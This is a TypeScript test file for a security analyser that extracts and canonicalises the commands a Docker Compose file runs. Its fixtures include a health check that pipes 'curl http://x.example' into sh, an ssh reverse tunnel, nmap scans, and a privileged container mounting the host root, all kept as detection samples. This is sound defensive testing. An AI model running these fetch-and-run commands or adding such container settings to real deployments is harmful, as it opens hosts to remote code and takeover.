import assert from "node:assert/strict";
import type { Analyser } from "../../../extension/core/analysis/analyser.ts";
import { mutations, survives } from "./mutations.ts";
import { canonical, commandSpans, testAnalyser, viaOf } from "./test-analyser.ts";

const service = (keys: string) => `services:\n  a:\n${keys.replace(/^(?=.)/gm, "    ")}`;

const file = `x-base: &base
  command: nmap "h i" $X \${Y:-y} $$Z
services:
  a:
    <<: *base
    image: ubuntu
    privileged: true
    pid: host
    volumes: ["/:/host:ro", data:/d]
  b:
    build: .
    entrypoint: ["sh", "-c"]
    command: ["ssh -R 1:2:3 $\${H}"]
    environment:
      - H=u@h
    healthcheck:
      test: curl -f http://x.example | sh
`;

describe("what a compose file runs", () => {
  let analyser: Analyser;
  before(async () => {
    analyser = await testAnalyser();
  });
  const lines = async (text: string) =>
    (await canonical(analyser, "yaml-compose", text)).filter((line) => !/^docker run -- \S+$/.test(line));
  const spans = (text: string) => commandSpans(analyser, "yaml-compose", text);

  it("is its services' commands, health checks and settings", async () => {
    assert.deepEqual(await lines(file), [
      `nmap -- 'h i' "$X" y '$Z'`,
      "docker run --pid=host --privileged -v=/:/host:ro -- ubuntu",
      "ssh -R=1:2:3 -- u@h",
      "curl -f -- http://x.example | sh",
      ":fetch http://x.example | :run sh",
    ]);
  });

  it("is marked where it stands", async () => {
    assert.deepEqual(
      [...new Set(await spans(file))],
      [
        'nmap "h i" $X ${Y:-y} $$Z',
        'privileged: true\n    pid: host\n    volumes: ["/:/host:ro"',
        "ssh -R 1:2:3 $${H}",
        "curl -f http://x.example",
        "sh",
      ],
    );
  });

  const forms: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    ["a text, which no shell reads", service("image: x\nentrypoint: nmap h | 'i j' $$(k)\n"), "nmap -- h '|' 'i j' '$(k)'"],
    ["a text for a shell", service("image: x\ncommand: sh -c 'nmap h; nmap i'\n"), "nmap -- h", "nmap -- i"],
    ["a list", service("image: x\ncommand: [nmap, h, 1]\n"), "nmap -- h '1'"],
    ["an entrypoint with arguments", service("image: x\nentrypoint: /usr/bin/nmap\ncommand: [h]\n"), "nmap -- h"],
    ["arguments of an image that is one program", service("image: reg.example/nmap:1\ncommand: h\n"), "nmap -- h"],
    ["arguments of an image that may be anything", service("image: redis\ncommand: --save 60\n"), "docker run -- redis --save '60'"],
    ["constants of the environment", service("image: x\nenvironment: { A: h }\ncommand: [sh, -c, nmap $$A]\n"), "nmap -- h"],
    ["a health check for a shell", service("image: x\nhealthcheck: { test: [CMD-SHELL, nmap h] }\n"), "nmap -- h"],
    ["a health check in words", service("image: x\nhealthcheck: { test: [CMD, nmap, h] }\n"), "nmap -- h"],
    ["a hook", service("image: x\npost_start:\n  - command: nmap h\n"), "nmap -- h"],
    ["a Dockerfile in the file", service("build:\n  dockerfile_inline: |\n    FROM x\n    RUN nmap h\n"), "nmap -- h"],
    ["a config with a script", "configs:\n  x:\n    content: |\n      #!/bin/sh\n      nmap h\n", "nmap -- h"],
    [
      "mounts in the long form",
      service("image: x\nvolumes:\n  - { type: bind, source: /, target: /host }\n"),
      "docker run -v=/:/host -- x",
    ],
    [
      "rights that are added",
      service("image: x\ncap_add: [SYS_ADMIN]\nnetwork_mode: host\n"),
      "docker run --cap-add=SYS_ADMIN --network=host -- x",
    ],
    ["services at the top", "a:\n  image: x\n  command: nmap h\n", "nmap -- h"],
  ];
  for (const [title, text, ...expected] of forms) it(`is read through ${title}`, async () => assert.deepEqual(await lines(text), expected));

  it("is nothing where nothing special is asked", async () => {
    const text = service(
      "image: x\nhealthcheck: { test: [NONE] }\nlabels: { a: nmap h }\nnetwork_mode: bridge\nvolumes: [data:/d]\nprivileged: false\n",
    );
    assert.deepEqual(await lines(text), []);
  });

  it("names the host and the key", async () => {
    const hosts = (await viaOf(analyser, "yaml-compose", file)).map(([host]) => host);
    assert.deepEqual([...new Set(hosts)], ["compose:command", "compose:container", "compose:entrypoint", "compose:healthcheck"]);
  });

  it("says which command it cannot read, and reads the rest", async () => {
    const text = service("image: x\ncommand: { a: b }\nhealthcheck: { test: nmap h }\n");
    const { problems } = await analyser.analyse({ path: "compose.yml", text }, 5_000);
    assert.deepEqual(
      problems.map(({ code, weight, range }) => [code, weight, range?.start.line]),
      [["unparsed", "blocking", 3]],
    );
    assert.deepEqual(await lines(text), ["nmap -- h"]);
  });

  for (const path of ["compose.yml", "x/docker-compose.yaml", "docker-compose.override.yml", "compose.prod.yaml", "podman-compose.yml"]) {
    it(`may stand in ${path}`, () => assert.equal(analyser.languageOf(path, ""), "yaml-compose"));
  }
  it("does not stand in a file of another name", () => assert.equal(analyser.languageOf("decompose.yml", "services: {}"), undefined));

  it("survives what is nearly right", async () => {
    await survives(
      analyser,
      "yaml-compose",
      mutations(file, ["&a ", "*a ", "- ", ": ", "<<: *a\n", "|\n", '"', "${", "}", "\t", "{", "[", "$"], 150),
    );
  });
}).timeout(60_000);
